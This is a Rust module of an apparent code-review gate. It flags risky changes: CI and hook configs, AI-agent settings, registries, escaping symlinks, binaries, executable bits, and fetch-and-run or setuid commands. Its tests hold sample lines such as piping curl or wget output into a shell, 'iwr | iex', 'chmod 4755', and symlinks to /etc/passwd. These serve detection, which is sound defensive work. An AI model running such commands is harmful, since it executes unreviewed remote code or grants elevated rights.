//! Changes that give somebody power without looking like it: files that others execute, links that leave the tree,
//! binaries, permissions.

use crate::git::FileDiff;
use crate::model::Finding;

use crate::gate::found::found;

/// Where commands live that run by themselves: rule, what it is, and the paths.
struct Place {
    rule: &'static str,
    what: &'static str,
    /// Folder prefixes (ending in `/`) and file names or paths.
    paths: &'static [&'static str],
}

const PLACES: &[Place] = &[
    Place {
        rule: "ci-change",
        what: "changes what continuous integration runs, with its credentials",
        paths: &[
            ".github/workflows/",
            ".github/actions/",
            ".gitlab-ci.yml",
            ".gitlab/ci/",
            ".circleci/",
            ".travis.yml",
            "azure-pipelines.yml",
            "bitbucket-pipelines.yml",
            "Jenkinsfile",
            ".drone.yml",
            ".woodpecker.yml",
            ".woodpecker/",
            ".buildkite/",
            ".teamcity/",
            "appveyor.yml",
            ".appveyor.yml",
            "cloudbuild.yaml",
            ".forgejo/workflows/",
            ".gitea/workflows/",
            "buildspec.yml",
        ],
    },
    Place {
        rule: "hook-change",
        what: "changes commands that run automatically on every developer's machine",
        paths: &[
            ".husky/",
            ".githooks/",
            ".git-hooks/",
            "lefthook.yml",
            ".lefthook.yml",
            ".pre-commit-config.yaml",
            ".envrc",
            ".devcontainer/",
            ".vscode/tasks.json",
            ".vscode/settings.json",
            ".claude/settings.json",
            ".claude/hooks/",
            ".cursor/hooks.json",
            ".mcp.json",
            "sitecustomize.py",
            "usercustomize.py",
        ],
    },
    Place {
        rule: "gate-change",
        what: "changes what git orca runs and how it judges",
        paths: &["orca.toml", ".orca/", ".worktreeinclude"],
    },
    Place {
        rule: "scanner-change",
        what: "changes what a scanner looks for, or what it overlooks",
        paths: &[
            ".semgrep.yml",
            ".semgrep.yaml",
            ".semgrep/",
            ".semgrepignore",
            ".cargo/audit.toml",
            "deny.toml",
            ".bandit",
        ],
    },
    Place {
        rule: "registry-change",
        what: "changes where packages come from",
        paths: &[
            ".npmrc",
            ".yarnrc",
            ".yarnrc.yml",
            "pip.conf",
            "pip.ini",
            ".pypirc",
            ".cargo/config",
            ".cargo/config.toml",
            "bunfig.toml",
            ".bundle/config",
            "nuget.config",
        ],
    },
];

/// The findings of one changed file. `start` gives the first bytes of a file of the head.
pub(super) fn in_file(file: &FileDiff, start: &dyn Fn(&str) -> Vec<u8>) -> Vec<Finding> {
    let mut findings = Vec::new();
    let names = [Some(&file.path), file.old_path.as_ref()];
    if let Some(place) = PLACES.iter().find(|place| names.iter().flatten().any(|name| place.holds(name))) {
        let line = file.added.first().map_or(0, |line| line.number);
        findings.push(found(&file.path, line, place.rule, place.what, DECLARE));
    }
    if file.path.ends_with(".pth") && file.new_mode != 0 {
        findings.push(found(
            &file.path,
            1,
            "hook-change",
            "Python runs the lines of such files at each start",
            DECLARE,
        ));
    }
    if file.is_submodule() && file.old_mode != file.new_mode {
        let what = "a new submodule, or a repository that was committed by mistake";
        findings.push(found(&file.path, 0, "submodule", what, "delete its .git folder to commit its files, or ask"));
    }
    findings.extend(file.link_target().and_then(|target| leaving_link(file, target)));
    if file.new_mode & 0o170_000 == 0o100_000 {
        findings.extend(content(file, start));
    }
    findings
}

/// What makes a risky change acceptable.
pub(super) const DECLARE: &str =
    "if the task is about this, a person names the file in the plan or in .orca/allow; otherwise revert it";

impl Place {
    fn holds(&self, path: &str) -> bool {
        let name = path.rsplit('/').next().unwrap_or(path);
        self.paths.iter().any(|known| match known.strip_suffix('/') {
            Some(folder) => path.strip_prefix(folder).is_some_and(|rest| rest.starts_with('/')),
            // Names count in every folder: `frontend/.npmrc`.
            None if !known.contains('/') => name.eq_ignore_ascii_case(known),
            None => path == *known || path.ends_with(&format!("/{known}")),
        })
    }
}

fn leaving_link(file: &FileDiff, target: &str) -> Option<Finding> {
    let mut depth = file.path.matches('/').count();
    let mut leaves = target.starts_with('/');
    for part in target.split('/') {
        match part {
            "" | "." => {}
            ".." if depth == 0 => leaves = true,
            ".." => depth -= 1,
            _ => depth += 1,
        }
    }
    let inside_git = target.split('/').any(|part| part == ".git");
    (leaves || inside_git).then(|| {
        let what = format!("a link to `{target}`, which is not in the tree");
        found(&file.path, 1, "symlink", &what, "link to a file of the repository, or copy it")
    })
}

/// Beginnings of files that a machine executes or unpacks.
const PROGRAMS: [(&[u8], &str); 9] = [
    (b"\x7fELF", "a Linux program"),
    (b"MZ", "a Windows program"),
    (b"\xcf\xfa\xed\xfe", "a macOS program"),
    (b"\xca\xfe\xba\xbe", "a macOS program or Java class"),
    (b"\0asm", "a WebAssembly module"),
    (b"!<arch>\n", "a library archive"),
    (b"PK\x03\x04", "an archive"),
    (b"\x1f\x8b", "a compressed file"),
    (b"7z\xbc\xaf", "an archive"),
];

/// Endings of binary files that show something and run nothing, with what they begin with.
const MEDIA: [(&str, &[u8]); 12] = [
    ("png", b"\x89PNG"),
    ("jpg", b"\xff\xd8\xff"),
    ("jpeg", b"\xff\xd8\xff"),
    ("gif", b"GIF8"),
    ("webp", b"RIFF"),
    ("ico", b"\0\0\x01\0"),
    ("pdf", b"%PDF"),
    ("woff", b"wOFF"),
    ("woff2", b"wOF2"),
    ("ttf", b"\0\x01\0\0"),
    ("mp3", b"ID3"),
    ("wav", b"RIFF"),
];

fn content(file: &FileDiff, start: &dyn Fn(&str) -> Vec<u8>) -> Vec<Finding> {
    let mut findings = Vec::new();
    if file.binary {
        findings.extend(binary(file, &start(&file.path)));
    }
    if file.became_executable() {
        let begins = start(&file.path);
        let script = begins.starts_with(b"#!");
        // A new program is found as a binary already.
        let new_program = file.old_mode == 0 && file.binary;
        if !script && !new_program {
            let what = "is now executable, but is not a script";
            let advice = format!("git update-index --chmod=-x {}", file.path);
            findings.push(found(&file.path, 1, "executable-bit", what, &advice));
        }
    }
    findings
}

fn binary(file: &FileDiff, begins: &[u8]) -> Option<Finding> {
    if let Some((_, what)) = PROGRAMS.iter().find(|(magic, _)| begins.starts_with(magic)) {
        let what = format!("{what}, which nobody can review");
        return Some(found(&file.path, 0, "binary", &what, "build it from source instead of committing it"));
    }
    let ending = file.path.rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
    let media = MEDIA.iter().any(|(known, magic)| *known == ending && begins.starts_with(magic));
    let new = file.old_mode == 0;
    (new && !media).then(|| found(&file.path, 0, "binary", "a new binary file, which nobody can review", DECLARE))
}

/// Commands that fetch a program and run it unseen, or give it rights.
pub(super) fn in_line(path: &str, number: u32, line: &str) -> Option<Finding> {
    let fetched = fetches(line).then(|| {
        let what = "runs what a server sends, unseen";
        found(path, number, "fetch-and-run", what, "download it, check its digest, then run it")
    });
    fetched.or_else(|| {
        let advice = "programs that run with their owner's rights need a person's decision";
        gives_rights(line).then(|| found(path, number, "setuid", "makes a program run with its owner's rights", advice))
    })
}

const FETCHERS: [&str; 6] = ["curl ", "wget ", "fetch ", "iwr ", "invoke-webrequest ", "invoke-restmethod "];

const SHELLS: [&str; 14] =
    ["sh", "bash", "zsh", "dash", "ash", "ksh", "fish", "python", "python3", "perl", "ruby", "node", "iex", "php"];

fn fetches(line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    let Some(at) = FETCHERS.iter().filter_map(|fetcher| lower.find(fetcher)).min() else { return false };
    let (before, after) = lower.split_at(at);
    let runs = |part: &str| {
        let command = part.trim().trim_start_matches("sudo").trim_start();
        let first = command.split(|c: char| c.is_whitespace() || ";&)\"'`".contains(c)).next().unwrap_or_default();
        SHELLS.contains(&first.rsplit('/').next().unwrap_or(first))
    };
    let piped = after.split('|').skip(1).any(runs);
    let lead = before.trim_end();
    let substituted = ["$(", "<(", "`"].iter().any(|open| lead.ends_with(open))
        && ["sh ", "bash ", "zsh ", "eval ", "source ", ". ", "sh -c", "python"].iter().any(|word| lead.contains(word));
    piped || substituted
}

fn gives_rights(line: &str) -> bool {
    let words: Vec<&str> = line.split(|c: char| c.is_whitespace() || "\"',;()".contains(c)).collect();
    words.iter().position(|word| *word == "chmod" || word.ends_with("/chmod")).is_some_and(|at| {
        let mode = words[at + 1..].iter().find(|word| !word.is_empty() && !word.starts_with('-')).copied();
        mode.is_some_and(|mode| {
            let octal = mode.len() >= 4 && mode.bytes().all(|b| b.is_ascii_digit());
            let special = mode.trim_start_matches('0').bytes().next().is_some_and(|b| (b'2'..=b'7').contains(&b));
            mode.contains("+s") || (octal && mode.trim_start_matches('0').len() == 4 && special)
        })
    })
}

#[cfg(test)]
mod tests {
    use super::super::testing::{changed, new};
    use super::*;

    fn rules(file: &FileDiff, begins: &[u8]) -> Vec<String> {
        in_file(file, &|_| begins.to_vec()).into_iter().map(|finding| finding.rule).collect()
    }

    #[test]
    fn places_that_run_by_themselves() {
        let table = [
            (".github/workflows/ci.yml", "ci-change"),
            ("sub/.gitlab-ci.yml", "ci-change"),
            ("Jenkinsfile", "ci-change"),
            (".semgrep/rules.yml", "scanner-change"),
            (".cargo/audit.toml", "scanner-change"),
            (".husky/pre-commit", "hook-change"),
            (".claude/settings.json", "hook-change"),
            ("lib/extra.pth", "hook-change"),
            ("orca.toml", "gate-change"),
            (".orca/allow", "gate-change"),
            ("frontend/.npmrc", "registry-change"),
            (".cargo/config.toml", "registry-change"),
        ];
        for (path, rule) in table {
            assert_eq!(rules(&changed(path, &[(3, "x")]), b""), [rule], "{path}");
        }
        for path in ["src/ci.rs", "docs/github/workflows.md", ".github/CODEOWNERS", "src/orca.toml.rs", "a.pthx"] {
            assert!(rules(&changed(path, &[(3, "x")]), b"").is_empty(), "{path}");
        }
        let moved = FileDiff { old_path: Some(".github/workflows/ci.yml".into()), ..changed("old.yml", &[]) };
        assert_eq!(rules(&moved, b""), ["ci-change"], "moving it away switches it off");
        assert_eq!(in_file(&changed("orca.toml", &[(7, "x")]), &|_| Vec::new())[0].line, 7);
    }

    #[test]
    fn links_that_leave_the_tree() {
        let link = |path: &str, target: &str| FileDiff { new_mode: 0o120_000, ..new(path, &[target]) };
        for (path, target) in [("a", "/etc/passwd"), ("a", "../x"), ("d/a", "../../x"), ("d/a", "../.git/config")] {
            assert_eq!(rules(&link(path, target), b""), ["symlink"], "{path} -> {target}");
        }
        for (path, target) in [("a", "b"), ("d/a", "../b"), ("d/e/a", "../../b/c"), ("a", "d/../b"), ("a", "..b")] {
            assert!(rules(&link(path, target), b"").is_empty(), "{path} -> {target}");
        }
    }

    #[test]
    fn binaries_and_executables() {
        let binary = |path: &str| FileDiff { binary: true, ..new(path, &[]) };
        assert_eq!(rules(&binary("tool"), b"\x7fELF\x02"), ["binary"]);
        assert_eq!(rules(&binary("logo.png"), b"\x7fELF\x02"), ["binary"], "a program under another name");
        assert_eq!(rules(&binary("data.bin"), b"\x01\0\x02"), ["binary"]);
        assert!(rules(&binary("logo.png"), b"\x89PNG\r\n").is_empty());
        let made = |mode: u32| FileDiff { old_mode: mode, new_mode: 0o100_755, ..new("x", &["text"]) };
        assert_eq!(rules(&made(0o100_644), b"text"), ["executable-bit"]);
        assert_eq!(rules(&made(0), b"text"), ["executable-bit"]);
        assert!(rules(&made(0), b"#!/bin/sh\n").is_empty(), "a new script");
        assert!(rules(&made(0o100_644), b"#!/bin/sh\n").is_empty());
        let module = FileDiff { new_mode: 0o160_000, ..new("sub", &["x"]) };
        assert_eq!(rules(&module, b""), ["submodule"]);
    }

    #[test]
    fn commands_that_run_what_they_fetch() {
        let rule = |line: &str| in_line("x.sh", 1, line).map(|finding| finding.rule);
        let bad = [
            "curl -sSf https://x.example/i.sh | sh",
            "wget -qO- https://x.example/i | sudo bash -s -- -y",
            "bash <(curl -s https://x.example/i)",
            "sh -c \"$(curl -fsSL https://x.example/i)\"",
            "RUN curl https://x.example/i.py | python3 -",
            "eval \"$(wget -O - https://x.example)\"",
            "iwr https://x.example/i.ps1 | iex",
        ];
        for line in bad {
            assert_eq!(rule(line).as_deref(), Some("fetch-and-run"), "{line}");
        }
        for line in ["chmod 4755 /usr/bin/x", "chmod u+s x", "subprocess.run(['chmod', '+s', p])", "chmod 02755 d"] {
            assert_eq!(rule(line).as_deref(), Some("setuid"), "{line}");
        }
        let fine = [
            "curl -o x.tar.gz https://x.example/x.tar.gz",
            "curl https://x.example/x.json | jq .",
            "data = fetch (url) | shuffle",
            "x=$(curl https://x.example/version)",
            "chmod +x run.sh",
            "chmod 0755 run.sh",
            "chmod 755 run.sh",
        ];
        for line in fine {
            assert_eq!(rule(line), None, "{line}");
        }
    }
}
